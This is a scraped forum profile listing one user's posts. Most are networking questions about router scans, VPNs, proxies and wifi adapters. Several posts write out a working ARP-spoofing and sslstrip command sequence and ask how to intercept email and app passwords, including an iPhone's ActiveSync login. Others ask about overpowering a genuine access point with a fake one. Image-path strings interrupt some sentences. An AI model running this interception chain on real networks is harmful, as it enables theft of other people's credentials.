Jump to content


Active Members
  • Posts

  • Joined

  • Last visited

Everything posted by michael_kent123

  1. Well, yes, but they would have to know the password. When I SSH to the VPN IP, it asks me for my password. Unless the password to my system is obvious, I don't see a problem. Or am I too naive?
  2. I will check out the video over the weekend. One more thing that I kind of but not completely understand. I have SSH installed on my computer. If I ssh to my IP address provided by my ISP then the connection fails. However, if I connect to my VPN and then ssh to the VPN IP, I get a connection. I can login to my system using the password I use to login to my computer. I'm assuming that's how SSH is supposed to work (it's as if I was contacting my IP from a remote system) and the VPN hasallowed its users to SSH to their home computers via the VPN IP. Does that make sense? Are there any security implications? Many thanks!
  3. Thanks for the information - I've done some more research as you suggested. I scanned my external IP from inside my LAN: Not shown: 997 closed ports PORT STATE SERVICE 23/tcp open telnet # 1900/tcp open upnp # Upnp is turned off on the router so I don't know why this is open. 40001/tcp open unknown # This is the way I connect to the router I scanned my external IP from my VPN IP: Note: Host seems down. If it is really up, but blocking our ping probes, try -PN Nmap done: 1 IP address (0 hosts up) scanned in 3.21 seconds I typed my external IP:40001 into the browser and, when using the VPN, it timed out. When I typed my external IP:port in (without using a VPN) it brought up the login screen. So my impression is that the router is not accessible from the internet.
  4. I have a TP-Link router and recently ran an nmap scan on it from inside my network. I'mnot too worried about the results as I have turned remote admin off so the router is inaccessible from the internet. I am using the Ubuntu OS. Nonetheless, there are a few things I do not understand. Here are my results: 23/tcp open telnet 1900/tcp open upnp 2000/tcp open cisco-sccp 2001/tcp open dc 9000/tcp open cslistener Telnetmakes sense; it's a way to connect to the router. Upnp I understand but, even though I've disabled it in the admin panel, it still shows "open". Maybe nmap is supposed to show it as open, even though it's closed from the perspective of the router. I don't know. Sccp (https://en.wikipedia.org/wiki/Skinny_Call_Control_Protocol) is a Cisco protocol which makes no sense to me as I don't have a Cisco router unless TP-Link has paid to use this proprietary protocol. Dc seems very mysterious and no-one seems to know what it is. Cslistener (http://brianoneill.blogspot.com/2012/02/cslistener-on-mac-osx-on-port-9000.html) maybe the Checkpoint firewall which I have not installed. More generally, is there a way to run a netstat like command on the router IP. I can telnet to it but I can't run commands like netstat to check what is happening on these ports from the router's perspective. Any ideas?
  5. I finally tried tcpick but had nosuccess. Here is what I did. Terminal 1: echo "1" > /proc/sys/net/ipv4/ip_forward iptables -t nat -A PREROUTING -p tcp--destination-port 80 -j REDIRECT --to-port 10000 arpspoof -i wlan0 [router IP] Terminal 2: sslstrip -l 10000 -k Terminal 3: sudo tcpick -i wlan0 -bPS -C "port 443" Terminal 4: sudo tcpick -i wlan0 -bPC -C "port 443" I then sent an e-mail from a different device to a Hotmail address which was setup on my iPhone with ActiveSync. Tcpick showed HTTPS connections to Microsoft but did not collect anyusername:password combinations (neither did sslstrip.log). The tcpick server shows content like: ...r......Y.t~swj......t..J...$.#. .k.g.9.3...=.<.5./...&.%.......*.)..... ...............C.........bay405-m.hotmail.com. ................. ..........3t.. ....f...ba..L!g..Q*..fA '.+........7............x..[q..Z.J...}K........ \...%S2F..q.*X..._.T}v{......|FE.. ...... The tcpick client just showed connections to Microsoft's IP addresses. For example: SYN-SENT > SYN-SENT > RESET > RESET > I also tried using tcpick -i wlan0 -bPC -C "port 80" and tcpick -i wlan0 -bPS -C "port 80" (as i8igmac suggested). However, no data was shown. Just IP addresses. Any ideas? Thanks.
  6. Sourceforge is down atm but I'll look into this. How does it sniff / intercept / overcome SSL communications?
  7. Does anyone know about Microsoft ActiveSync? Link: https://en.wikipedia.org/wiki/Exchange_ActiveSync Basically, it is the way in which iPhone users setup their Hotmail / Outlook account. You just enter the e-mail and password and ActiveSync checks that the information is correct. You don't need to enter the POP or IMAP or SMTP details. Now, ActiveSync uses port 443 to transmit data. I thought that the username and password could be intercepted and recorded with SSL Strip. This is because the data is transmitted to the Microsoft server using HTTPS which is exactly what SSL Strip compromises when used on websites. Here is how I setup SSL Strip. I know for a fact that this works as I tested it by logging in to e-mailsites on the iPhone. echo "1" > /proc/sys/net/ipv4/ip_forward iptables -t nat -A PREROUTING -p tcp --destination-port 80 -j REDIRECT --to-port 10000 arpspoof -i wlan1 gateway_ip sslstrip -l 10000 -k I then sent an e-mail from a different device to the iPhone. I used Wireshark which showed that my iPhone's IP transmitted some HTTPS traffic. I assume that it logged into Microsoft servers to access the message. At this point, I am guessing that the username and passwordwas sent to allow me to read the message. Wireshark shows a DNS request to outlook.office365.com and the iPhone's IP contacts an IP in the range - which is owned by Microsoft. This is HTTPS (over TCP) and TLSv1.2 protocols. There is also a transmission to - which is Microsoft using IMAPS. However, when I checked the SSL Strip log, nothing was recorded. Obviously, using ActiveSync is not the same as logging into a HTTPS website. But ActiveSync does use HTTPS so I thought that SSL Strip might work. Clearly I was wrong. Can anyone comment on this? Is there a way to acquire the password from an iPhone when the e-mail account is setup with ActiveSync? As more and more people move from computers to phones, I would have thought this would be an increasingly important attack vector.
  8. On a related note, I wonder if you know anything about Microsoft Active Sync. I set up a Hotmail account on my iPhone. To connect to the server, Microsoft apparently uses HTTPS on port 443. See, for example, http://www.altn.com/Support/FAQ/FAQResults/?Number=KBA-02281 I used arpspoof and SSLStrip in the normal way (iptables -t nat -A PREROUTING -p tcp --destination-port 80 -j REDIRECT --to-port 10000). I then sent an e-mail from my Desktop to my Hotmail account on my iPhone. The phone downloaded the message. However, when I checked the SSLStrip log, nothing showed. When, on the iPhone, I login to a webmail account (port 443) the username:password does show in my log. I'm wondering if there is a way to intercept the username:password between Hotmail on the iPhone using SSLStrip. Any ideas? Thanks!
  9. Yes. My impression is that, with the Alfa, monitor mode is promiscious mode. It's just a question of terminology.10. To use SSL Strip: echo "1" > /proc/sys/net/ipv4/ip_forward iptables -tnat -A PREROUTING -p tcp --destination-port 80 -j REDIRECT --to-port 10000 Why is the destination port 80 since we want to redirect HTTPS traffic. Shouldn't it be port 443? Let's say I want to intercept secure POP which uses port 995. Can I just do: iptables -t nat -A PREROUTING -p tcp --destination-port 995 -j REDIRECT --to-port 10000 Or should it be port 110 (POP) considering that HTTPS apparently uses port 80 (not 443)?
  11. Promiscuous mode - ability to see packets on the wifi network you are connected to that are not directed to your MAC. Monitor mode- ability to see packets on wifi networks to which you are not connected but that your NIC can sniff. However, since modern networks are switches rather than hubs, promiscuous mode no longer really exists. Therefore, am I correct when I say that: Monitor mode is like promiscuous mode for the network you are connected to plus you can also view nearby networks. So, if I am on SSID "Hello" and my friend is on "Hello" and he sends a non-SSL username:password to his e-mail provider, and I am in monitor mode, then I can view that password in Wireshark. Is that correct? Thanks!
  12. The other issue I wanted to ask is about increasing power via antennas. I know nothing about antenna theory. I have a 9 dBi antenna for the Alfa. What is the most powerful indoor antenna I can get for the Alfa (i.e. not having to attach it to the side of a house). Does the antenna affect only tx power or also the ability to receive better?
  13. Is there any reason therefore not to increase the tx power to 30? It seems to only do good things. Morespecifically, if one created a "soft" or fake AP, a higher tx power would presumably overcome the "real" signals from the genuine AP?
  14. Thanks - this is a helpful explanation. There is a thread in the Pineapple section on the best Alfa for Pineapple. I am wondering what the best Alfa is for those of us who want to use it for arpspoofing, packet injection, etc. In terms of tx power, a poster seems to be suggesting that one Alfa model can provide 2 dBi. I don't understand this if you can only alter the tx power to 30 (using iw reg set BO). Thanks again!
  15. I was recently watching a video by Vivek Ramachandram on how to increase the tx power of the Alfa card. Question: what is the benefit of this? Does it allow the Alfa to "see" networks that are further away? Does it allow for packet injection over a further distance? Does it give a benefit for arpspoofing e.g. being able to transmit the fake MAC of the router over a greater distance? Can someone please articluate the benefits of tx power 30 over, say, tx power 20.
  16. I have a AWUS 036H which I'm happy with. I'm going to buy another card. I would predominantly use it for accessing wifi, arpspoofing, and packet injection. Should I get another 036H or something else?
  17. Are there any benefits to 2 wattswhich is, I believe, 33 dBm. After all, the maximum txpower can be set to is 30dBm (iw reg set BO).
  18. I have an AlfaAWUS036H which is, I guess, at least five years old. I want to buy an additional Alfa but have noticed there are multiple versions. Asearch on this forum reveals: AWUS036NEH AWUS036NHR AWUS036H AWUS036NHA AWUS036A There are numerous other versions here. I also purchased a 9dBi antenna so what ever I get needs to be able to add an antenna. If you were buying an Alfa for airmon-ng mode, packet injection, etc, what version would you get?19. Thank you for the answer. I have a couple of questions. I've read about HSTS (https://en.wikipedia.org/wiki/HTTP_Strict_Transport_Security). The article claims that HSTS defeats SSL Strip. I don't understand this because, using the latest version of both IE and FF, I just successfully stripped my HTTPS connections to websites like Facebook and Gmail. What I still don't understand is how the app validates the user. Is the user's username and password being sent to a server as in thetraditional client / server model?
  20. I have wondered for some time how apps (e.g. Facebook, Twitter, or Instagram) on an iPhone on Android device transmit the username and password. For example, if I am using a laptop and want to login to Facebook then I browse to https://www.facebook.com and enter my username and password which is transmitted to Facebook which checks whether it is accurate or not. However, if I use the Facebook app, how is the username and password invoked? If you are a MITM and you intercept client-server communications (e.g. with SSL Strip) then you can get my Facebook username and password. However, if I am using an app (over wireless) to login to Facebook then can you as the MITM grab my login details? In all cases, we are using a wireless network.
  21. Thanks. So, in other words, HTTP can only do HTTP/S but SOCKS can do SSH (for example) and also HTTP/S. Yes?
  22. Hello, I have wondered for some time about the difference between proxy types. For example, Tor uses SOCKS 5. On the other hand, I can find lists of proxies and enter the IP:port into the HTTP proxy section of Firefox. What is the difference in practical usage between a HTTP proxy and a SOCKS 5 proxy? How are theseproxies used? Are they used for different purposes? What are their advantages and disadvantages? Thank you.
  23. I have a question about the use of VPN services. If you go to www.whatismyip.com orequivalent then you see the VPN IP not the ISP IP. Normally, I have an internal 192.168.x.x IP and my ISP IP. With a VPN, I have the internal IP and the VPN IP. So, when using a VPN, does that mean that there is no ISP IP but only an internal IP and a VPN IP? In other words, does the VPN effectively replace the ISP IP with its IP? Is it: a) 192.168.x.x --> VPN IP. or b) 192.168.x.x --> ISP IP --> VPN IP. Thank you!
  24. I take your point. I was so used to having shared IPs that I forgot that the VPS means that only I use a specific IP!
  25. Here is something I do not understand even though I'm sure there is a simple answer. I SSH to my VPS. This VPS has not had DNS propagation started. I can only access it via an IP address. I upload some files to /var/www/ I then go in the webbrowser to the VPS IP. I can see the files e.g. index.html. Here is what I do not understand. How does the web browser know the correct content to serve me? Presumably, I am not the only person using that IP address. If I were to have linked the domain name to the IP via DNS propagation, then my domain panel would point to the nameservers ofthe VPS and I would have entered my domain name in the VPS control panel. Hence, when I request www.domain.com, I am given the correct files as the domain name and IP are linked. But in this case, I just type How does the VPS know what to give me? The files are stored ontheir servers. I do not host anything in my /var/www/ directory.
  • Create New...